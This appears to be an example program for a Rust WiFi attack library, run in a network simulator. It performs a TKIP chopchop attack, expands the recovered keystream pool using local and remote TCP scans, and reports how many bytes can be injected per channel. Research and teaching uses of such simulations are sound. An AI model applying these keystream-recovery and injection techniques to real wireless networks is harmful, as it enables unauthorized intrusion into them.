//! After a chopchop, grow the keystream pool: locally from the AP's TCP
//! resets, then remotely from segments a WAN host sends the client.

use tkipkit::attacks::{ChopConfig, LocalScanConfig, RemoteScanConfig, Session};
use tkipkit::simnet::{run, Scenario, SECOND};

fn main() {
    let sc = Scenario {
        wan_hops: 3,
        ..Scenario::default()
    };
    let r = run(&sc, |a| {
        let mut s = Session::new();
        let arp = s.await_arp(a, 30 * SECOND).unwrap();
        s.chopchop(a, &arp, &ChopConfig::default()).unwrap();
        let local = s.tcp_scan_local(a, &LocalScanConfig::default()).unwrap();
        let remote = s.tcp_scan_remote(a, &RemoteScanConfig::default()).unwrap();
        (local, remote, s)
    })
    .unwrap();
    let (local, remote, s) = r.result;

    println!(
        "local:  {} confirmed 60-byte entries, per round {:?}, {} probes",
        local.confirmed.len(),
        local.per_round,
        local.probes
    );
    println!(
        "remote: {} entries of {} bytes, TTL {}, {} WAN bytes in {:.1} s",
        remote.entries.len(),
        remote.entry_len,
        remote.ttl,
        remote.wan_bytes,
        (remote.finished - remote.started) as f64 / 1e6
    );
    let exact = s.pool.entries().filter(|e| e.confirmed && r.audit.entry_is_exact(e)).count();
    println!("confirmed entries matching the real keystream: {exact}");
    for ch in 1..8u8 {
        if let Ok(c) = s.pool.inject_capacity(ch) {
            println!("channel {ch}: {c} injectable bytes");
        }
    }
}
